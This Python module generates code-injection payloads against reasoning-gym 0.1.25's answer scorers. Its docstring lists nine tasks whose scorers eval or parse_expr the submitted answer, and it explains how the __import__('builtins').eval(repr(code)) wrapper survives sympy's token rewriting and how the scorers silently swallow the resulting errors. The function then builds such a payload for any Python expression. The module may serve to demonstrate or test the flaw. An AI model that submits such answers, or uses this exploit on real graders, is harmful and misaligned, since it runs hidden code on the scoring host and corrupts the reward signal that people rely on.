"""Answers that make reasoning-gym's own scorers run arbitrary Python (reasoning-gym 0.1.25).

Every payload has the same shape, ``__import__('builtins').eval(<repr(code)>)``; what
evaluates it differs per task:

* simple_integration: ``sympy.parse_expr(answer, local_dict={var, "C"})``, which ``eval``s the answer.
* intermediate_integration: ``sympy.parse_expr(answer, local_dict={var, "C"})``, same as simple_integration.
* polynomial_multiplication: ``sympy.parse_expr(answer)``.
* countdown: ``float(parse_expr(answer))`` (only when ``answer.strip()`` is non-empty).
* puzzle24: ``int(parse_expr(answer.strip()))``.
* string_insertion: ``"".join(eval(answer))`` (only when the answer differs from the oracle).
* spiral_matrix: ``eval(answer.strip())`` (only when the answer differs from the oracle).
* binary_matrix: ``eval(answer)`` (only when the answer differs from the oracle).
* n_queens: ``eval(answer)`` (only when the answer is not in ``metadata["valid_answers"]``).

Why the wrapper rather than ``code`` itself: sympy's parse_expr rewrites the tokens
before it evaluates them (unknown names become ``Symbol('x')``, numbers
``Integer(2)``, ``lambda`` is rewritten). So a comprehension such as
``[p for p in t]`` or a ``lambda`` in ``code`` would fail with a SyntaxError
(checked on sympy 1.14). String literals are left alone, so
``code`` goes in as a ``repr`` and only ``__import__`` (a builtin, which parse_expr
keeps as it is) and the attribute ``.eval`` go through the rewriting.
``repr`` also escapes newlines, so the payload is a single line.

Every scorer catches its exceptions (``except:``/``except Exception``) and returns a
low score. So ``code`` runs even if it returns ``None`` or raises; the scorer then
raises on the result (``float(None)``, iterating ``None``) and swallows that too. The
only way to see that the payload ran is its side effect.

No scorer reads ``entry["question"]``. The integration scorers read
``metadata["variable"]`` and ``metadata["integrand"]``, countdown reads
``metadata["numbers"]`` and ``metadata["target"]``, n_queens reads
``metadata["valid_answers"]``, and the others read ``entry["answer"]``. All of these
are in the entry that ``ReasoningGymReward`` rebuilds (``metadata`` never contains a
``question``, so the rebuilt one is ``""``). The payload is evaluated before any of
these fields is compared, so it does not depend on their values.
"""

from __future__ import annotations

from typing import Any

EVALUATING_TASKS: tuple[str, ...] = (
    "simple_integration",
    "intermediate_integration",
    "polynomial_multiplication",
    "countdown",
    "puzzle24",
    "string_insertion",
    "spiral_matrix",
    "binary_matrix",
    "n_queens",
)


def payload_answer(task: str, entry: dict[str, Any], code: str) -> str:
    """An answer for ``task`` whose scoring (against ``entry``) evaluates the Python expression ``code``."""
    if task not in EVALUATING_TASKS:
        raise ValueError(f"no code-execution payload for task {task!r}; known: {EVALUATING_TASKS}")
    answer = f"__import__('builtins').eval({code!r})"
    # The eval-based scorers evaluate only an answer that is not already right.
    # A payload never equals an oracle, but check it here so this can't fail unnoticed.
    oracle = entry.get("answer")
    valid = entry.get("metadata", {}).get("valid_answers", ())
    if answer == oracle or answer in valid:
        raise ValueError(f"payload for {task!r} equals the oracle answer and would not be evaluated")
    return answer
